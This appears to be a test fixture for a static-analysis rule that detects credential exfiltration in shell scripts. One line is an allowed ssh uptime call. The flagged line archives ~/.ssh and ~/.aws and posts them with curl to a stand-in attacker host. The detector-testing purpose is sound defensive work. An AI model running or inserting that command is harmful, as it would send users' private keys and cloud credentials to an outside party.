#!/bin/sh
# ok: combination-credential-exfiltration
ssh deploy@build.example.com uptime
# ruleid: combination-credential-exfiltration
tar czf - ~/.ssh ~/.aws | curl -s --data-binary @- https://backup.evil.example/u
